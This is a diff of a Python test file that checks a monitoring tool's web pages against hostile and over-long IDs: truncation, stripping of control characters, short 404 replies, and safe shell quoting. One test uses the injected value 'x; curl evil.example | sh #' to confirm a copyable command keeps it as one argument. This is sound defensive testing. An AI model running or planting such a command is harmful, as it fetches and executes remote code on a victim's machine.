@@ -3,11 +3,12 @@
 from __future__ import annotations
 
 import json
+import shlex
 from dataclasses import dataclass, field, replace
 from datetime import timedelta
 from html.parser import HTMLParser
 from typing import Any
-from urllib.parse import quote
+from urllib.parse import quote, unquote
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -28,6 +29,7 @@ from monitor.explain.explanation import CauseKind, ClockExplanation, LaidOut, Te
 from monitor.history import TIME, Doubt
 from monitor.model import AgreementKind, Name, SubjectKey
 from monitor.policy import StartedBy
+from monitor.text import visible
 from monitor.worktime import Calendar
 from tests.exporters.web.explained import explained
 from tests.support import snapshots
@@ -165,7 +167,7 @@ def test_hostile_text_stays_text_on_the_page(site: Any, attack: str) -> None:
         answer = site.get(path)
         assert answer.status_code == 200
         assert_harmless(answer.text)
-    assert attack.replace("\x00", "") in "".join(read(site.get("/page").text).text).replace("\x00", "")
+    assert visible(attack) in "".join(read(site.get("/page").text).text)
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
@@ -190,3 +192,62 @@ def test_any_text_at_all_can_be_shown(site: Any, text: str) -> None:
     for path in ("/", "/metrics", "/explain/a/b", "/explain/a/b?format=json"):
         assert site.get(path).status_code == 200
     json.loads(site.get("/explain/a/b?format=json").content)
+
+
+LONG = (
+    "x" * 10_000,
+    "/srv/" + "folder/" * 1400 + "end",
+    "<b>" * 3300,
+    "\u202e\u05d0" * 5000,
+    "INC\x00" * 2500,
+    "\u5355" * 10_000,
+)
+
+
+def addresses(page: Page) -> set[str]:
+    """What links and forms hold, which is whole."""
+    return {attributes.get(name) or "" for _, attributes in page.elements for name in ("href", "action", "value")}
+
+
+@pytest.mark.parametrize("text", LONG)
+def test_long_ids_and_paths_are_cut_wherever_they_are_shown(site: Any, text: str) -> None:
+    site.snapshot, site.said = snapshots.hostile(text), hostile(text)
+    for path in ("/", "/page", "/explain/corp/x"):
+        page = read(site.get(path).text)
+        assert any("\u2026" in part for part in page.text), "something was cut"
+        assert not [part[:200] + part[-100:] for part in page.text if len(part) > 2500], path
+        held = addresses(page)
+        assert not [
+            value
+            for _, attributes in page.elements
+            for value in attributes.values()
+            if value and len(value) > 2500 and value not in held
+        ]
+        for part in page.text:
+            assert not set(part) & set("\x00\u202e")
+
+
+@pytest.mark.parametrize("text", LONG)
+def test_what_is_cut_on_the_page_leads_to_the_whole_and_json_has_it(site: Any, text: str) -> None:
+    site.snapshot, site.said = snapshots.hostile(text), hostile(text)
+    row = next(link for link in addresses(read(site.get("/page").text)) if "explain/" in link)
+    source, _, subject = row.partition("explain/")[2].partition("/")
+    assert (unquote(source), unquote(subject)) == (text, text)
+    assert json.loads(site.get("/explain/corp/x?format=json").content)["subject"] == text
+
+
+@pytest.mark.parametrize("text", ["x" * 10_000, "\u202e<b>" * 800])
+def test_a_long_address_that_leads_nowhere_is_answered_shortly(site: Any, text: str) -> None:
+    answer = site.get(f"/explain/{quote(text, safe='')}/{quote(text, safe='')}")
+    assert answer.status_code == 404
+    assert len(answer.text) < 6000
+    assert_harmless(answer.text)
+
+
+def test_a_command_to_copy_holds_a_hostile_id_as_one_argument(site: Any) -> None:
+    whole = explained()
+    text = "x; curl evil.example | sh #"
+    site.said = replace(whole, subject=replace(whole.subject, key=SubjectKey("corp", text)))
+    page = "".join(read(site.get("/explain/corp/x").text).text)
+    command = page[page.index("tierwatch retire") :].splitlines()[0]
+    assert shlex.split(command)[:3] == ["tierwatch", "retire", f"corp/{text}"]
